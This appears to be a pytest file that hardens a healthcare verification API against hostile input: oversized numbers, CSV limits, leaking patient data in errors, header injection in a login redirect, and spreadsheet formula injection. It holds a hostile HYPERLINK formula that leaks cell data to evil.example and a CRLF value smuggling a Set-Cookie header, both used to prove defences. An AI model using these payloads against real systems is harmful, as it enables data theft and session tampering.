"""Hostile or odd input gets a clear 4xx, never a 500 (each found by an outside review)."""

from __future__ import annotations

from typing import Any

import pytest

from tests.fakes.submissions import URL
from tests.unit.staff.conftest import make_account
from verifier.staff import accounts


@pytest.fixture
def bearer(runtime: Any) -> dict[str, str]:
    account = make_account(runtime, "coordinator")
    return {"Authorization": f"Bearer {accounts.issue_token(runtime, account.email)[1]}"}


@pytest.fixture
def batch(client: Any, bearer: dict[str, str]) -> str:
    body = "first_name,last_name,date_of_birth,member_id,payer_id,level_of_care,condition\n"
    body += "Ann,Oakes,1980-02-03,SBX-ACTIVE-1,SANDBOX,iop,mental_health\n"
    created = client.post("/api/v1/batches", data=body, content_type="text/csv", headers=bearer)
    assert created.status_code == 202, created.get_json()
    return str(created.get_json()["id"])


HUGE = "99999999999999999999"


def test_a_huge_page_number_in_the_api_search_is_a_422(client: Any, bearer: Any) -> None:
    response = client.get(URL, query_string={"page": HUGE}, headers=bearer)
    assert response.status_code == 422
    assert "page" in response.get_json()["errors"]


def test_a_huge_page_number_in_a_search_body_is_a_422(client: Any, bearer: Any) -> None:
    response = client.post(f"{URL}/search", json={"page": 10**25}, headers=bearer)
    assert response.status_code == 422


def test_a_huge_page_number_of_batch_progress_is_a_422(
    client: Any, bearer: Any, batch: str
) -> None:
    response = client.get(f"/api/v1/batches/{batch}", query_string={"page": HUGE}, headers=bearer)
    assert response.status_code == 422
    assert "page" in response.get_json()["errors"]


def test_the_last_representable_day_as_created_to_is_a_422(client: Any, bearer: Any) -> None:
    response = client.get(URL, query_string={"created_to": "9999-12-31"}, headers=bearer)
    assert response.status_code == 422
    assert "created_to" in response.get_json()["errors"]


def test_a_five_thousand_digit_number_is_a_400(client: Any, bearer: Any) -> None:
    body = '{"text": ' + "1" * 5000 + "}"
    for path, headers in ((URL, {}), (f"{URL}/{'0' * 32}/notes", bearer)):
        response = client.post(path, data=body, content_type="application/json", headers=headers)
        assert response.status_code == 400, path
        assert "A number in the JSON body is too long." in str(response.get_json()["errors"])


def test_a_note_of_only_spaces_is_a_422_naming_text(client: Any, bearer: Any) -> None:
    response = client.post(f"{URL}/{'0' * 32}/notes", json={"text": "    "}, headers=bearer)
    assert response.status_code == 422
    assert response.get_json()["errors"]["text"] == ["A note needs some text, not only spaces."]


def test_a_csv_field_over_the_size_limit_is_a_422_naming_the_line(client: Any, bearer: Any) -> None:
    body = "first_name,last_name\nAnn,Oakes\n" + "a" * 140_000 + ",b\n"
    response = client.post("/api/v1/batches", data=body, content_type="text/csv", headers=bearer)
    assert response.status_code == 422
    assert "line 3: a field is longer than 131,072 characters" in str(response.get_json())


def test_a_header_less_batch_csv_does_not_echo_its_first_row(client: Any, bearer: Any) -> None:
    body = "Ysolde,Brackenridge,1979-11-23,SBX-ACTIVE-4417\n"
    response = client.post("/api/v1/batches", data=body, content_type="text/csv", headers=bearer)
    assert response.status_code == 422
    text = response.get_data(as_text=True)
    for phi in ("Ysolde", "Brackenridge", "1979-11-23", "SBX-ACTIVE-4417"):
        assert phi not in text
    assert "is the header line missing?" in text


def test_a_misspelt_header_is_still_named(client: Any, bearer: Any) -> None:
    body = "first_name,lastname\nAnn,Oakes\n"
    response = client.post("/api/v1/batches", data=body, content_type="text/csv", headers=bearer)
    assert "unknown column(s): lastname" in response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/console", "/console/search", "/console/callbacks"])
def test_a_console_page_opened_with_a_bearer_token_asks_for_a_sign_in(
    client: Any, bearer: Any, path: str
) -> None:
    response = client.get(path, headers=bearer)
    assert response.status_code == 302
    assert "/console/login" in response.headers["Location"]


@pytest.mark.parametrize(
    "target", ["/console\r\nSet-Cookie: x=1", "/console\n", "/console/ x", "/console\\\\evil"]
)
def test_a_login_next_with_control_characters_goes_to_the_queue(
    app: Any, runtime: Any, target: str
) -> None:
    from tests.unit.staff.conftest import sign_in

    account = make_account(runtime, "coordinator")
    client = app.test_client()
    page = client.get("/console/login")
    assert page.status_code == 200
    import re

    csrf = re.search(rb'name="csrf_token" value="([^"]+)"', page.data)
    assert csrf
    response = client.post(
        "/console/login",
        data={
            "csrf_token": csrf.group(1).decode(),
            "email": account.email,
            "password": account.password,
            "code": account.code(),
            "next": target,
        },
    )
    assert response.status_code == 302
    assert response.headers["Location"] == "/console"
    assert "Set-Cookie: x" not in str(response.headers)
    del sign_in


def test_a_method_the_route_lacks_is_a_405_with_allow_even_with_a_body(client: Any) -> None:
    response = client.put(URL, data="x", content_type="text/plain")
    assert response.status_code == 405
    assert response.headers["Allow"] == "GET, HEAD, OPTIONS, POST"


@pytest.mark.parametrize("path", ["/review", "/patient", "/rerun"])
def test_a_bodiless_staff_post_needs_no_content_type(
    client: Any, bearer: Any, runtime: Any, path: str
) -> None:
    from tests.fakes.submissions import valid_body

    verification_id = client.post(URL, json=valid_body()).get_json()["id"]
    response = client.post(f"{URL}/{verification_id}{path}", headers=bearer)
    assert response.status_code in (200, 202), response.get_json()


def test_a_body_that_is_not_json_is_still_a_415(client: Any, bearer: Any) -> None:
    response = client.post(f"{URL}/search", data="q=Doe", headers=bearer)
    assert response.status_code == 415


def test_batch_results_csv_never_starts_a_cell_with_a_formula(
    client: Any, bearer: dict[str, str]
) -> None:
    """An uploader's unknown field name comes back in the row's errors: as text only."""
    import csv
    import io

    formula = '=HYPERLINK("https://evil.example/?leak="&A1)'
    from tests.fakes.submissions import valid_body

    item = valid_body() | {formula: "x"}  # valid but for that field: its error comes first
    created = client.post("/api/v1/batches", json={"items": [item]}, headers=bearer)
    assert created.status_code == 202, created.get_json()
    results = client.get(f"/api/v1/batches/{created.get_json()['id']}/results.csv", headers=bearer)
    cells = [
        cell for row in csv.reader(io.StringIO(results.get_data(as_text=True))) for cell in row
    ]
    assert any(formula in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
